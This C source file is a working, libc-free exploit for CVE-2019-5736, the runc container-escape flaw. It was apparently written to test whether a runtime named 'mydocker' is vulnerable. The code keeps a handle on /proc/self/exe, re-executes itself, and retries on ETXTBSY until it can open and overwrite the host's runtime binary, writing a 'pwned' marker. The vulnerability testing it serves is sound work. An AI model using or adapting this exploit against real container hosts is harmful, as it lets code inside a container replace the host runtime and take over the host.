/* CVE-2019-5736, without a C library, so that it can also be what mydocker names as its loader.
 *
 * With the words "oci …" it waits for the end of its stdin, as mydocker does with those. Else it has two lives.
 * First life: executed as /proc/self/exe, or as the loader of that. Keeps the file open, outlives its parent, and
 * executes itself by its own name, so that the file is in use no more on its account.
 * Second life ("second"): opens the file that was kept for writing, as soon as no one executes it. */

#if defined(__x86_64__)
enum { SYS_read = 0, SYS_write = 1, SYS_execve = 59, SYS_exit = 231, SYS_prctl = 157, SYS_openat = 257, SYS_nanosleep = 35 };
static long call(long number, long a, long b, long c, long d)
{
    register long r10 __asm__("r10") = d;
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}
__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call begin\n");
#elif defined(__aarch64__)
enum { SYS_read = 63, SYS_write = 64, SYS_execve = 221, SYS_exit = 94, SYS_prctl = 167, SYS_openat = 56, SYS_nanosleep = 101 };
static long call(long number, long a, long b, long c, long d)
{
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
__asm__(".globl _start\n_start: mov x0, sp\n bl begin\n");
#endif

enum { AT_FDCWD = -100, O_RDONLY = 0, O_WRONLY = 1, PR_SET_PDEATHSIG = 1, ETXTBSY = 26 };

static void say(const char *word)
{
    long length = 0;
    while (word[length])
        length++;
    call(SYS_write, 1, (long)word, length, 0);
}

static void leave(const char *word)
{
    say(word);
    call(SYS_exit, 0, 0, 0, 0);
    for (;;)
        ;
}

void begin(long *stack)
{
    const char *name = (const char *)stack[1];
    if (stack[0] > 1) {
        const char *word = (const char *)stack[2];
        if (word[0] == 'o' && word[1] == 'c' && word[2] == 'i') {
            char byte;
            while (call(SYS_read, 0, (long)&byte, 1, 0) > 0)
                ;
            call(SYS_exit, 0, 0, 0, 0);
        }
    }
    if (!(name[0] == 's' && name[1] == 'e' && name[2] == 'c')) {
        long kept = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
        if (kept < 0)
            leave("not opened\n");
        char number[] = {'0' + kept, 0};
        const char *arguments[] = {"second", number, 0};
        const char *environment[] = {0};
        call(SYS_prctl, PR_SET_PDEATHSIG, 0, 0, 0);
        call(SYS_execve, (long)"/attack", (long)arguments, (long)environment, 0);
        leave("not executed\n");
    }
    say("kept\n");
    char path[] = "/proc/self/fd/N";
    path[14] = *(const char *)stack[2];
    long pause[] = {0, 2000000}; /* 2 ms */
    for (int tries = 0; tries < 10000; tries++) {
        long file = call(SYS_openat, AT_FDCWD, (long)path, O_WRONLY, 0);
        if (file >= 0)
            leave(call(SYS_write, file, (long)"pwned", 5, 0) == 5 ? "written\n" : "not written\n");
        if (file != -ETXTBSY)
            leave("not opened for writing\n");
        call(SYS_nanosleep, (long)pause, 0, 0, 0);
    }
    leave("in use to the end\n");
}
